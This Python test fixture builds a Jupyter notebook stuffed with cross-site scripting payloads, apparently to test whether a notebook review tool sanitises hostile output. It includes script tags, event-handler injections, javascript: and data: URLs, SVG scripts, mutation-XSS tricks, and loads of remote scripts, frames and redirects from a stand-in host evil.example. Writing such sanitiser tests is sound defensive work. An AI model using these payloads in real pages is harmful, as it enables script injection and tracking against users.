"""A notebook whose author wants to run something in the reviewer's browser."""

from __future__ import annotations

import base64

from nbformat.v4 import new_markdown_cell, new_output, new_raw_cell

from support.review_case import code, notebook_of, shown

ELSEWHERE = "https://evil.example"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
    f'<image href="{ELSEWHERE}/x.png"/><a href="javascript:alert(3)"><text>x</text></a></svg>'
)
_SVG_BASE64 = base64.b64encode(SVG.encode()).decode()

#: one attack each
HTML = (
    "<script>alert(1)</script>",
    f"<script src='{ELSEWHERE}/x.js'></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src='{ELSEWHERE}/pixel.png' alt='pixel'>",
    "<img srcset='//evil.example/a 1x'>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href=' java\nscript:alert(1)'>b</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>c</a>",
    "<a href='vbscript:x'>d</a><a href='//evil.example'>e</a><a href='file:///etc/passwd'>f</a>",
    "<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1)></svg>",
    f"<iframe src='{ELSEWHERE}' srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data='{ELSEWHERE}'></object><embed src='{ELSEWHERE}'>",
    f"<form action='{ELSEWHERE}'><input name=q><button formaction='javascript:alert(1)'>go</button></form>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href='{ELSEWHERE}'>",
    f"<link rel=stylesheet href='{ELSEWHERE}/x.css'><style>@import '{ELSEWHERE}/y.css';</style>",
    f"<div style='position:fixed;inset:0;background:url({ELSEWHERE}/z.png)'>cover</div>",
    "<p style='width:expression(alert(1));behavior:url(x)'>old</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p title='<table>\"><script>alert(1)</script>'>title</p>",
    "<img src='data:image/png;base64,AAAA' alt='\"><script>alert(1)</script><th>'>",
    f"<img src='data:image/svg+xml;base64,{_SVG_BASE64}'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:,0'><img alt='src=\"data:,7\"'>",
    "<div id=content class=banner><h1>Passed</h1></div><div id=findings></div>",
    "<details open ontoggle=alert(1)>x</details><body onload=alert(1)>",
    f"<video src='{ELSEWHERE}/v.mp4' autoplay onerror=alert(1)></video><audio src=x></audio>",
    "<template><script>alert(1)</script></template><textarea></textarea><script>alert(1)</script>",
    "</div></li></ol></main><h1>outside</h1><table><tr><td>never closed",
    "<a href='https://example.org/?a=1&b=2' target=_blank ping='//evil.example'>fine</a>",
)
MARKDOWN = (
    "[x](javascript:alert(1)) ![y](https://evil.example/y.png) <script>alert(1)</script>\n\n"
    "<img src=x onerror=alert(1)> [z](data:text/html,x) ![w](attachment:w.png)\n\n"
    '<iframe src="https://evil.example"></iframe>\n\n```"><script>alert(1)</script>\nx\n```\n'
)
TEXT = (
    "\x1b[31m<script>alert(1)</script>\x1b[0m\x1b[38;5;28m<img src=x onerror=alert(1)>"
)


def hostile_notebook():
    notebook = notebook_of(
        new_markdown_cell("# <script>alert(1)</script>Title\n\n" + MARKDOWN, id="m0"),
        *(
            code(f"html-{n}", f"show({n})", shown({"text/html": html}))
            for n, html in enumerate(HTML)
        ),
        code("md", "x", shown({"text/markdown": MARKDOWN})),
        code("svg", "x", shown({"image/svg+xml": SVG})),
        code("png", "x", shown({"image/png": '"><script>alert(1)</script>'})),
        code("js", "x", shown({"application/javascript": "alert(1)"})),
        code("latex", "x", shown({"text/latex": "$<script>alert(1)</script>$"})),
        code("json", "x", shown({"application/json": {"a": "<script>"}})),
        code("odd", "x", shown({"text/x-odd": "<script>alert(1)</script>"})),
        code(
            "widget",
            "x",
            shown(
                {
                    "application/vnd.jupyter.widget-view+json": {"model_id": "<script>"},
                    "text/plain": "Slider(<script>)",
                }
            ),
        ),
        code("out", "x", new_output("stream", name="stdout", text=TEXT)),
        code(
            "error",
            "</pre><script>alert(1)</script>",
            new_output(
                "error",
                ename="<script>alert(1)</script>",
                evalue="<img src=x onerror=alert(1)>",
                traceback=[TEXT],
            ),
        ),
        code("alt", "x", shown({"image/svg+xml": SVG}, alt='"><script>alert(1)</script>')),
        new_raw_cell("<script>alert(1)</script>", id="raw"),
    )  # fmt: skip
    notebook.metadata["language_info"] = {
        "name": '"><script>alert(1)</script>',
        "pygments_lexer": '"><script>alert(1)</script>',
    }
    notebook.metadata["title"] = "</title><script>alert(1)</script>"
    return notebook
